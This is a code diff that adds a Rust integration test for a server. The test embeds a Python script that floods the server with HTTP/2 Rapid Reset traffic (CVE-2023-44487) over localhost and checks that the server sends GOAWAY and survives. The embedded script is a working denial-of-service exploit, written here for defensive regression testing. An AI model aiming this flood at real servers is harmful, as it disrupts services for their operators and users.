@@ -318,6 +318,70 @@ fn the_gateway_cuts_off_silent_and_half_open_connections() {
     assert!(gateway.child.try_wait().unwrap().is_none());
 }
 
+/// Opens HTTP/2 streams and resets each at once (CVE-2023-44487); prints the GOAWAY code.
+const RAPID_RESET: &str = r#"
+import socket, ssl, sys
+import h2.connection, h2.config, h2.events
+port = int(sys.argv[1])
+ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+ctx.set_alpn_protocols(["h2"])
+s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="localhost")
+assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
+c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+c.initiate_connection(); s.sendall(c.data_to_send())
+sent = 0
+try:
+    for i in range(5000):
+        sid = c.get_next_available_stream_id()
+        c.send_headers(sid, [(":method", "GET"), (":path", "/healthz"), (":scheme", "https"), (":authority", "localhost")], end_stream=True)
+        c.reset_stream(sid)
+        s.sendall(c.data_to_send())
+        sent += 1
+except Exception as e:
+    pass
+s.settimeout(10)
+goaway = None
+try:
+    while goaway is None:
+        data = s.recv(65536)
+        if not data:
+            break
+        for ev in c.receive_data(data):
+            if isinstance(ev, h2.events.ConnectionTerminated):
+                goaway = ev.error_code
+except Exception as e:
+    pass
+print("sent", sent, "goaway", int(goaway) if goaway is not None else None)
+"#;
+
+#[test]
+fn an_http2_rapid_reset_flood_loses_its_connection_not_the_server() {
+    let (env, _) = Env::with_ca();
+    let mut server = env.serve();
+    // python's h2 (installed into .venv-test by scripts/test) plays the attacker.
+    let python = super::support::repo_root().join(".venv-test/bin/python");
+    assert!(
+        python.exists(),
+        "{} is missing: run scripts/test, which installs h2 into .venv-test",
+        python.display()
+    );
+    let out = Command::new(python)
+        .arg("-c")
+        .arg(RAPID_RESET)
+        .arg(port(&server.addr))
+        .output()
+        .unwrap();
+    let report = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "{report}{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    // GOAWAY with ENHANCE_YOUR_CALM (0xb) before the 5,000 resets were all sent.
+    assert!(report.contains("goaway 11"), "{report}");
+    assert_alive(&mut server, &env);
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_connection_cap_applies_back_pressure_and_recovers() {
     let (env, secret) = Env::with_ca();
